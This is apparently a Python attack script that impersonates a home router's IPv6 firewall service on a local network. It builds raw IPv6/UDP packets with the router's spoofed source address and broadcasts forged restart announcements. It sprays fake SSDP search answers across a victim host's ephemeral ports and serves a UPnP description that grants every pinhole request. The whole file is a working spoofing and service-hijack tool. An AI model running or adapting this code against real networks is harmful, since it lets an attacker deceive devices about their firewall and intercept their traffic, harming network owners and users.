"""A host of the home network that plays the router's IPv6 firewall.

Run it there with its own address, the router's link-local one, the victim's address and the seconds. It announces
restarts under the router's name, and sprays the answer to a search over the ports that clients use: routers answer
from their global address what was asked of their link-local one, and so does it. The description that it names is its
own, and what is asked of it there it grants. A line of JSON with the counts comes at the end.
"""
import http.server
import json
import socket
import struct
import sys
import threading
import time

own, router, victim, seconds = sys.argv[1], sys.argv[2], sys.argv[3], float(sys.argv[4])
ends = time.monotonic() + seconds
asked = {"GET": 0, "POST": 0}
sent = 0
service = "urn:schemas-upnp-org:service:WANIPv6FirewallControl:1"
description = f"""<?xml version="1.0"?><root xmlns="urn:schemas-upnp-org:device-1-0"><device>
<deviceType>urn:schemas-upnp-org:device:InternetGatewayDevice:2</deviceType><serviceList><service>
<serviceType>{service}</serviceType><serviceId>urn:upnp-org:serviceId:F</serviceId><SCPDURL>/f.xml</SCPDURL>
<controlURL>/control</controlURL><eventSubURL>/event</eventSubURL></service></serviceList></device></root>"""
granted = f"""<?xml version="1.0"?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body>
<u:AddPinholeResponse xmlns:u="{service}"><UniqueID>7</UniqueID></u:AddPinholeResponse></s:Body></s:Envelope>"""


class Pages(http.server.BaseHTTPRequestHandler):
    """Describes a firewall, and grants whatever it is asked."""

    def reply(self, body):
        asked[self.command] += 1
        self.rfile.read(int(self.headers.get("Content-Length", 0)))
        self.send_response(200)
        self.send_header("Content-Type", "text/xml")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body.encode())

    def do_GET(self):
        self.reply(description)

    def do_POST(self):
        self.reply(granted)

    def log_message(self, *_):
        pass


class Server(http.server.ThreadingHTTPServer):
    address_family = socket.AF_INET6


def datagrams(source, port, payload, to, ports):
    """Datagrams with a source address that need not be ours, one for each port: IPv6 and UDP headers by hand."""
    addresses = socket.inet_pton(socket.AF_INET6, source) + socket.inet_pton(socket.AF_INET6, to)
    padded = payload + b"\0" * (len(payload) % 2)
    length = 8 + len(payload)
    rest = sum(struct.unpack(f"!{len(padded) // 2}H", padded))
    rest += sum(struct.unpack("!16H", addresses)) + 17 + 2 * length + port
    header = struct.pack("!IHBB", 6 << 28, length, 17, 64) + addresses
    for target in ports:
        total = rest + target
        while total >> 16:
            total = (total & 0xFFFF) + (total >> 16)
        udp = struct.pack("!HHHH", port, target, length, ~total & 0xFFFF or 0xFFFF)
        yield header + udp + payload


def shout(source, port, payload, to, ports):
    global sent
    for datagram in datagrams(source, port, payload, to, ports):
        raw.sendto(datagram, (to, 0, 0, device))
        sent += 1


answer = (
    f"HTTP/1.1 200 OK\r\nLOCATION: http://[{own}]:8000/root.xml\r\nST: {service}\r\nUSN: uuid:x\r\nEXT:\r\n\r\n"
).encode()
announcement = struct.pack("!BBBBII12x", 2, 0x80, 0, 0, 0, 0)
device = socket.if_nametoindex("eth0")
raw = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW)
raw.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_IF, device)
server = Server((own, 8000), Pages)
threading.Thread(target=server.serve_forever, daemon=True).start()
print("ready", flush=True)
port = 32768
while time.monotonic() < ends:
    shout(router, 5351, announcement, "ff02::1", [5350])
    ports = range(port, min(port + 400, 61000))
    shout(own, 1900, answer, victim, ports)
    port = 32768 if ports.stop >= 61000 else ports.stop
server.shutdown()
print(json.dumps({"described": asked["GET"], "asked": asked["POST"], "sent": sent}), flush=True)
